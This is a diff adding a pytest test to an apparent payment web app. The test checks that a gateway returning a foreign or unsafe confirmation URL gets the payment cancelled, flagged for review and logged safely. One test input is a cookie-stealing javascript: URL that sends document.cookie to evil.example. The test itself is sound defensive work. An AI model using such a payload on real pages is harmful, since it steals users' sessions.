@@ -180,3 +180,39 @@ def test_in_production_the_browser_goes_only_to_allowed_https_pages(monkeypatch,
 ])
 def test_in_demo_the_sandbox_and_loopback_pages_only(monkeypatch, url, expected):
     assert gateway_pages.browser_address(url, _settings(monkeypatch)) == expected
+
+
+@pytest.mark.parametrize("page_url", ["javascript:fetch('https://evil.example/?'+document.cookie)",
+                                      "https://evil.example/pay", "http://pay.gateway.test/pay/1"])
+async def test_a_gateway_handing_out_a_foreign_page_gets_no_browser(demo_db, page_url):
+    """The payment is stopped before the browser goes anywhere: review, an event, cancelled, documents free."""
+    import json
+
+    from sqlmodel import Session, select
+
+    from gkh_web.db.engine import get_engine, session_scope
+    from gkh_web.db.models import Payment, PaymentEvent, PaymentItem
+    from gkh_web.services import payments
+    from tests.db.test_payments import RETURN_URL, T0, new_payment, resident
+    from tests.fake_gateway import FakeGateway, http_gateway
+
+    fake = FakeGateway(page_url=page_url)
+    with Session(get_engine(demo_db), expire_on_commit=False) as session:
+        record = new_payment(session, resident(session, "ivanov"))
+
+    started = await payments.start_payment(record.id, http_gateway(fake), RETURN_URL,
+                                           session_factory=lambda: session_scope(demo_db), now=T0)
+
+    assert started.confirmation_url is None and started.message == payments.MSG_PAGE_REFUSED
+    assert fake.only_payment()["status"] == "canceled"
+    with session_scope(demo_db) as session:
+        payment = session.get(Payment, record.id)
+        notes = [json.loads(event.detail).get("review", "") for event in session.exec(
+            select(PaymentEvent).where(PaymentEvent.payment_id == record.id)).all() if event.detail]
+        still_open = session.exec(select(PaymentItem).where(PaymentItem.payment_id == record.id,
+                                                            PaymentItem.open == 1)).all()
+        [view] = payments.payments_of_resident(session, record.resident_id)
+    assert view.continue_url == ""  # «Продолжить оплату» never offers it either
+    assert payment.needs_review and payment.status == "canceled" and still_open == []
+    assert any(note.startswith("confirmation_url refused: ") for note in notes)
+    assert "document.cookie" not in " ".join(notes)  # the log names scheme and host, not the whole address
